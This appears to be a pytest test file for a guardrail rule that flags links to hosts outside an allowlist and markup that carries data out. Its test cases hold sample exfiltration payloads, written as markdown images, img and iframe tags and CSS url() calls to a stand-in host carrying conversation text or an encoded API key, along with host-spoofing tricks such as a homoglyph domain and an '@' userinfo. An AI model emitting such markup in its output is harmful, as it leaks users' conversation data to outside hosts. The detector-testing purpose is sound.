"""Links: hosts outside the allowlist, however written, and markup that carries data out."""

import base64

import pytest

from guardrails.rules.links import Links
from guardrails.text import Text

ALLOW = Links("l", ["example.com", "*.example.org"])
ANY = Links("l")
SECRET = base64.urlsafe_b64encode(b"the api key is 12345 and").decode()


def _found(rule: Links, text: str) -> list[tuple[str, str]]:
    return [(f.kind, text[f.begin : f.end]) for f in rule.scan(Text(text))]


@pytest.mark.parametrize(
    "text",
    [
        "see https://example.com/a?b=c, http://EXAMPLE.com:8080 and https://docs.example.org.",
        "![logo](https://example.com/logo.png?conversation=abcdefghijklmnopqrstuvwxyz)",
        "a // comment, 1//2, path/to//file and https://user@example.com/x",
    ],
)
def test_allowed(text: str) -> None:
    assert _found(ALLOW, text) == []


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("go to https://evil.test/x now", "https://evil.test/x"),
        ("https://example.com.evil.test", "https://example.com.evil.test"),
        ("https://example.com@evil.test/", "https://example.com@evil.test/"),
        ("https://notexample.org", "https://notexample.org"),
        ("https://example.org", "https://example.org"),
        ("https:\\\\evil.test\\a", "https:\\\\evil.test"),
        ("HTTPS://EVIL.test", "HTTPS://EVIL.test"),
        ("https://ex\u0430mple.com/", "https://ex\u0430mple.com/"),
        ("http://10.1.2.3/x", "http://10.1.2.3/x"),
        ("[a](//evil.test/x)", "//evil.test/x)"),
        ("www.evil.test/a", "www.evil.test/a"),
    ],
)
def test_foreign_hosts(text: str, address: str) -> None:
    assert _found(ALLOW, text) == [("link", address)]
    assert _found(ANY, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.test/?q=what-the-model-knows)",
        "![a long alt text](https://evil.test/i.png?d={conversation})",
        f"![x](https://evil.test/{SECRET}/p.png)",
        "<img width=1 src='https://evil.test/p?data=0123456789abcdef'>",
        '<iframe src="//evil.test/?x=0123456789abcdef">',
        "background: url(https://evil.test/?x=0123456789abcdef)",
        "![x][1]\n\n[1]: https://evil.test/?x=0123456789abcdef",
        "![x](https://0123456789abcdef@evil.test/)",
        "![x](https://evil.test/#0123456789abcdef)",
        "[click](https://evil.test/?q=" + "a1b2" * 50 + ")",
    ],
)
def test_markup_that_carries_data_out(text: str) -> None:
    assert [kind for kind, _ in _found(ANY, text)] == ["exfiltration"]
    assert [kind for kind, _ in _found(ALLOW, text)] == ["exfiltration"]


@pytest.mark.parametrize(
    "text",
    [
        "![badge](https://img.test/badge/build.svg?style=flat)",
        "[docs](https://docs.test/search?q=how+to+sort&page=2)",
        "<img src='https://cdn.test/a/b/c/photo-1500.jpg?w=800'>",
        "see https://github.test/a/b/blob/3f786850e387550fdab836ed7e6dc881de23001b/src/x.py#L10-L20",
    ],
)
def test_common_markup_is_none(text: str) -> None:
    assert _found(ANY, text) == []


def test_what_is_no_domain() -> None:
    with pytest.raises(ValueError, match=r"'https://a' is no domain; write example\.com"):
        Links("l", ["https://a"])


def test_what_a_stream_holds_back() -> None:
    text = "![](https://evil.test/?q=" + "a" * 5000 + ")"
    (found,) = Links("l", longest_address=200).scan(Text(text))
    assert found.end - found.begin <= 200
    assert Links("l", longest_address=200).longest == 500


def test_a_link_right_behind_another_one_is_judged_too() -> None:
    text = "[a](https://ok.example/)[b](https://elsewhere.example/x)![c](https://elsewhere.example/?q=everything-it-knows)"
    found = [(f.kind, text[f.begin : f.end]) for f in Links("l", ["ok.example"]).scan(Text(text))]
    assert [kind for kind, _ in found] == ["link", "exfiltration"]
    assert all(value.startswith("https://elsewhere.example/") for _, value in found)
